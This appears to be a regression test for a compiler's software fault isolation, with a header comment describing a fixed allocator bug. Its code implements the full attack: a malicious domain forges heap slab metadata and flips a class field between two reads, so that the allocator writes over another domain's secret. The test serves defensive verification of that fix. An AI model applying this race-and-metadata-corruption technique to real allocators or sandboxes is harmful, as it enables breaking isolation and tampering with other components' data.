// The allocator of a domain's heap (loader/heap_alloc.c) keeps its
// bookkeeping in the domain's own memory, which the domain may rewrite at
// any time; under `sfi` the allocator is not instrumented. An attack
// round's: `mal` crafted two slabs of one class, then called malloc to
// fill the first (slab_unlink) while a second thread of mal flipped the
// slab's class between the allocator's two loads of it: checked as the
// real class, used as an index for the list head's store, which then
// wrote a pointer into `vault`'s heap over its secret (6 runs of 9 within
// 50000 tries). The allocator reads each value once into a local, checks
// that, and bounds every store by the region's constants: no try writes
// outside mal's region (some are refused as a corrupt heap). Control: the
// same secret written by mal directly, stopped under `sfi`, done under
// `none` (`direct`).
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t race 60000 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t direct 1 2>&1 | FileCheck %s --check-prefix=SFI-DIRECT
// RUN: %dipc-bin-dir/dipc-run --backend=none %t direct 1 2>&1 | FileCheck %s --check-prefix=NONE-DIRECT
// SFI: race: 60000 tries, 0 stolen
// SFI-DIRECT: direct: 1 tries, 0 stolen, 1 refused
// NONE-DIRECT: direct: 1 tries, 1 stolen
#include <dipc.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define HEAP_ADDR 0x200000000000ull
#define STRIDE 0x400000000ull
#define CLS 35 /* class of 8192 */

/* ---- mal ---- */
static volatile uint32_t *volatile flip_at __dom("mal");
static volatile uint32_t bad_cls __dom("mal");
static volatile int armed __dom("mal");
static volatile long flips __dom("mal");
static volatile int spin_bad __dom("mal"), spin_good __dom("mal");

long mal_flip(long b, long g) __dom("mal") __entry __perm("default", read);
long mal_flip(long b, long g) {
  spin_bad = (int)b, spin_good = (int)g;
  for (;;) {
    volatile uint32_t *p = flip_at;
    if (!armed || !p)
      continue;
    *p = bad_cls;
    for (volatile int i = 0; i < spin_bad; i++)
      ;
    *p = CLS;
    for (volatile int i = 0; i < spin_good; i++)
      ;
    flips++;
  }
  return 0;
}

/* ---- vault: a secret in its own heap ---- */
static char *vault_sec __dom("vault");
uintptr_t vault_make(void) __dom("vault") __entry;
uintptr_t vault_make(void) {
  vault_sec = malloc(64);
  strcpy(vault_sec, "vault-secret-42");
  return (uintptr_t)vault_sec;
}
long vault_word(long i) __dom("vault") __entry;
long vault_word(long i) { return ((long *)vault_sec)[i]; }
long vault_intact(void) __dom("vault") __entry;
long vault_intact(void) { return strcmp(vault_sec, "vault-secret-42") == 0; }

struct slab {
  uint32_t cls, nfree, cap, carved;
  void *free;
  struct slab *next, *prev;
};

static struct slab *S1 __dom("mal"), *S2 __dom("mal");
static uintptr_t H __dom("mal");
static uintptr_t target_at __dom("mal"); /* vault's secret */

long mal_setup(uintptr_t target) __dom("mal") __entry __perm("default", read);
long mal_setup(uintptr_t target) {
  char *volatile p[7];
  for (int i = 0; i < 7; i++)
    p[i] = malloc(8192);
  char *volatile q = malloc(8192);
  S1 = (struct slab *)((uintptr_t)p[0] & ~(uintptr_t)0xffff);
  S2 = (struct slab *)((uintptr_t)q & ~(uintptr_t)0xffff);
  H = HEAP_ADDR + (((uintptr_t)p[0] - HEAP_ADDR) / STRIDE) * STRIDE;
  if (S1 == S2)
    return -2;
  if (target < H + 0x18 || (target - H - 0x18) % 8 ||
      (target - H - 0x18) / 8 > 0xffffffffull)
    return -(long)H;
  bad_cls = (uint32_t)((target - H - 0x18) / 8);
  target_at = target;
  flip_at = &S1->cls;
  return (long)H;
}

/* The control: the store the race aims at, made by mal itself. */
long mal_direct(void) __dom("mal") __entry __perm("default", read);
long mal_direct(void) {
  *(volatile uintptr_t *)target_at = (uintptr_t)S1;
  return 1;
}

long mal_try(void) __dom("mal") __entry __perm("default", read);
long mal_try(void) {
  armed = 0;
  /* craft: S1 at the head of class CLS with one free block, S2 after it */
  S1->cls = CLS;
  S1->cap = 7;
  S1->carved = 7;
  S1->nfree = 1;
  S1->free = (char *)S1 + 64;
  ((uint64_t *)((char *)S1 + 64))[0] = 0;
  S1->prev = NULL;
  S1->next = S2;
  S2->prev = S1;
  S2->next = NULL;
  S2->cls = CLS;
  ((struct slab *volatile *)(H + 0x18))[CLS] = S1;
  armed = 1;
  void *volatile x = malloc(8192); /* S1 full: slab_unlink(S1) */
  armed = 0;
  return x != NULL;
}

static void *flipper(void *a) {
  (void)a;
  mal_flip(50, 50);
  return NULL;
}

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "";
  int tries = argc > 2 ? atoi(argv[2]) : 1, direct = !strcmp(mode, "direct");
  if (!direct && strcmp(mode, "race"))
    return 2;
  uintptr_t t = vault_make();
  long h = mal_setup(t);
  if (h < 0) {
    printf("setup failed: %ld\n", h);
    return 1;
  }
  pthread_t th;
  if (!direct)
    pthread_create(&th, NULL, flipper, NULL);
  int made = 0, refused = 0, stolen = 0;
  while (made < tries && !stolen) {
    long r = direct ? mal_direct() : mal_try();
    made++;
    refused += r != 1 && dipc_errno == DIPC_EFAULT;
    stolen = !vault_intact();
  }
  printf("%s: %d tries, %d stolen, %d refused\n", mode, made, stolen,
         refused);
  if (stolen)
    printf("vault's heap secret overwritten at try %d: first word %#lx\n",
           made, vault_word(0));
  return 0;
}
